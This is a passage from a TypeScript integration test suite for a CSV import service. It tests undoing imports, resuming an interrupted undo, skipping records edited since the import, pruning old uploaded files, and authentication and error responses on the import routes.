            .select({ n: sql<number>`count(*)::int` })
            .from(organizations)
            .where(and(like(organizations.cro, 'UND-%'), isNull(organizations.deletedAt)))
        )[0].n;
      expect(await live()).toBe(ROWS - 500);

      const resumed = await undoToEnd(id);
      expect(resumed).toMatchObject({
        status: 'undone',
        progress: 1,
        failure: null,
        undo: { records: ROWS, recordsDone: ROWS, deleted: ROWS, restored: 0, leftAloneCount: 0 },
      });
      expect(await live()).toBe(0);
      await expectCountsExact();
      expect(
        (await t.http.post(`/api/import/${id}/undo`).set('Authorization', staff.auth)).status,
      ).toBe(409);
    });

    it('an undo interrupted by a restart resumes after its last committed batch', async () => {
      const lines = ['Company name,CRO number'];
      for (let i = 1; i <= 700; i++) lines.push(`Undo Restart ${i} Ltd,UNR-${i}`);
      const res = await upload('organizations', Buffer.from(lines.join('\n')), 'undo-restart.csv');
      const restartId = res.body.data._id;
      await checked(restartId, { onDuplicate: 'skip' });
      await runToEnd(restartId);
      const db = t.app.get<Database>(DATABASE);
      // As a server stopped during the undo leaves it: undoing, the first batch committed (done
      // here by the job's own batch), the job lost with the server.
      await db
        .update(imports)
        .set({
          status: 'undoing',
          undoStartedAt: new Date(),
          undoUserName: 'Nuala Importer',
          undoTotal: 700,
        })
        .where(eq(imports.id, restartId));
      await (
        t.app.get(ImportService) as unknown as {
          undoBatch(id: string): Promise<boolean>;
        }
      ).undoBatch(restartId);
      expect((await status(restartId)).body.data).toMatchObject({
        status: 'undoing',
        undo: { recordsDone: 500, deleted: 500 },
      });
      expect(await t.app.get(ImportService).resumeInterrupted()).toBeGreaterThanOrEqual(1);
      const undone = await waitForUndo(restartId);
      expect(undone).toMatchObject({
        status: 'undone',
        undo: { records: 700, recordsDone: 700, deleted: 700, leftAloneCount: 0 },
      });
      const left = await db
        .select({ n: sql<number>`count(*)::int` })
        .from(organizations)
        .where(and(like(organizations.cro, 'UNR-%'), isNull(organizations.deletedAt)));
      expect(left[0].n).toBe(0);
      await expectCountsExact();
    });

    it('exact counts after an undo that leaves alone the records changed since, in either batch', async () => {
      // 600 rows, two batches (500, 100); each name twice (a duplicate pair per name, created
      // anyway), so the undo takes members out of the duplicate-key counts too.
      const lines = ['Company name,CRO number'];
      for (let i = 1; i <= 600; i++) lines.push(`Undo Exact Trading ${i % 300},UNX-${i}`);
      const res = await upload('organizations', Buffer.from(lines.join('\n')), 'undo-exact.csv');
      const exactId = res.body.data._id;
      await checked(exactId, { onDuplicate: 'create' });
      expect(await runToEnd(exactId)).toMatchObject({ status: 'done', created: 600 });
      await expectCountsExact();
      const db = t.app.get<Database>(DATABASE);
      const byCro = async (cro: string) =>
        (
          await db
            .select({ id: organizations.id, name: organizations.name })
            .from(organizations)
            .where(eq(organizations.cro, cro))
        )[0];
      // Changed since: one renamed in the first batch, one renamed and one deleted in the second.
      const renamedFirst = await byCro('UNX-10');
      const renamedSecond = await byCro('UNX-550');
      const deletedSecond = await byCro('UNX-560');
      for (const [record, name] of [
        [renamedFirst, 'Undo Exact Renamed First'],
        [renamedSecond, 'Undo Exact Renamed Second'],
      ] as const) {
        await t.http
          .put(`/api/organization/${record.id}`)
          .set('Authorization', staff.auth)
          .send({ name })
          .expect(200);
      }
      await t.http
        .delete(`/api/organization/${deletedSecond.id}`)
        .set('Authorization', staff.auth)
        .expect(200);
      await expectCountsExact();

      const undone = await undoToEnd(exactId);
      expect(undone).toMatchObject({ status: 'undone', progress: 1 });
      expect(undone.undo).toEqual({
        records: 600,
        recordsDone: 600,
        deleted: 597,
        restored: 0,
        leftAloneCount: 3,
        leftAlone: [
          {
            recordType: 'organization',
            recordId: renamedFirst.id,
            label: 'Undo Exact Renamed First',
          },
          {
            recordType: 'organization',
            recordId: renamedSecond.id,
            label: 'Undo Exact Renamed Second',
          },
          // Deleted since: left as it is, with no live name to show.
          { recordType: 'organization', recordId: deletedSecond.id, label: '' },
        ],
      });
      const live = await db
        .select({ name: organizations.name })
        .from(organizations)
        .where(and(like(organizations.cro, 'UNX-%'), isNull(organizations.deletedAt)))
        .orderBy(organizations.name);
      expect(live.map((row) => row.name)).toEqual([
        'Undo Exact Renamed First',
        'Undo Exact Renamed Second',
      ]);
      await expectCountsExact();
    });
  });

  describe('the daily housekeeping removes the files no import needs', () => {
    it(`finished imports past the ${IMPORT_UNDO_DAYS}-day undo window, undone ones and uploads unused for ${IMPORT_UNUSED_FILE_DAYS} days; the rows keep their summary`, async () => {
      expect([IMPORT_UNDO_DAYS, IMPORT_UNUSED_FILE_DAYS]).toEqual([30, 7]);
      const db = t.app.get<Database>(DATABASE);
      const storage = t.app.get<FileStorage>(FILE_STORAGE);
      const now = new Date();
      const daysAgo = (days: number) => new Date(now.getTime() - days * 86_400_000);
      const finished = async (name: string) => {
        const res = await upload(
          'organizations',
          Buffer.from(`Company name\n${name}\n`),
          `${name}.csv`,
        );
        await checked(res.body.data._id, { onDuplicate: 'skip' });
        await runToEnd(res.body.data._id);
        return res.body.data._id as string;
      };
      const uploaded = async (name: string) =>
        (await upload('organizations', Buffer.from(`Company name\n${name}\n`), `${name}.csv`)).body
          .data._id as string;

      // Each case: the import, when it last moved, and whether its file goes.
      const cases = [
        {
          what: 'run 31 days ago',
          id: await finished('Prune Old Run Ltd'),
          finishedAt: daysAgo(31),
          goes: true,
        },
        {
          what: 'run 29 days ago',
          id: await finished('Prune Recent Run Ltd'),
          finishedAt: daysAgo(29),
          goes: false,
        },
        {
          what: 'undone',
          id: await finished('Prune Undone Ltd'),
          finishedAt: daysAgo(1),
          goes: true,
        },
        {
          what: 'uploaded 8 days ago',
          id: await uploaded('Prune Old Upload Ltd'),
          updatedAt: daysAgo(8),
          goes: true,
        },
        {
          what: 'uploaded 6 days ago',
          id: await uploaded('Prune Recent Upload Ltd'),
          updatedAt: daysAgo(6),
          goes: false,
        },
      ];
      await undoToEnd(cases[2].id);
      for (const entry of cases) {
        await db
          .update(imports)
          .set({
            ...(entry.finishedAt ? { finishedAt: entry.finishedAt } : {}),
            ...(entry.updatedAt ? { updatedAt: entry.updatedAt } : {}),
          })
          .where(eq(imports.id, entry.id));
      }
      const keys = new Map<string, string>();
      for (const entry of cases) {
        const [row] = await db.select().from(imports).where(eq(imports.id, entry.id));
        keys.set(entry.id, row.storageKey);
        expect(await storage.size(row.storageKey)).toBeGreaterThan(0);
      }

      const day = `2098-02-${String((Date.now() % 28) + 1).padStart(2, '0')}`;
      const result = await t.app.get(HousekeepingService).runOnce(day, now);
      expect(result).toMatchObject({ ran: true });
      expect((result as { importFiles: number }).importFiles).toBeGreaterThanOrEqual(3);

      for (const entry of cases) {
        const size = await storage.size(keys.get(entry.id) as string);
        const view = (await status(entry.id)).body.data;
        expect({
          what: entry.what,
          gone: size === undefined,
          marked: view.fileRemovedAt !== null,
        }).toEqual({
          what: entry.what,
          gone: entry.goes,
          marked: entry.goes,
        });
      }
      // The summary stays; an upload whose file went answers why it can no longer be checked.
      expect((await status(cases[0].id)).body.data).toMatchObject({ status: 'done', created: 1 });
      const late = await check(cases[3].id, { onDuplicate: 'skip' });
      expect(late.status).toBe(409);
      expect(late.body.message).toMatch(/removed 7 days after its upload/);
    });
  });

  it('every route needs a signed-in user; a bad id answers 400/404, never 500', async () => {
    expect((await t.http.get('/api/import')).status).toBe(401);
    expect(
      (await t.http.get('/api/import/not-an-id').set('Authorization', staff.auth)).status,
    ).toBe(400);
    expect(
      (
        await t.http
          .get('/api/import/00000000-0000-4000-8000-000000000000')
          .set('Authorization', staff.auth)
      ).status,
    ).toBe(404);
  });
});
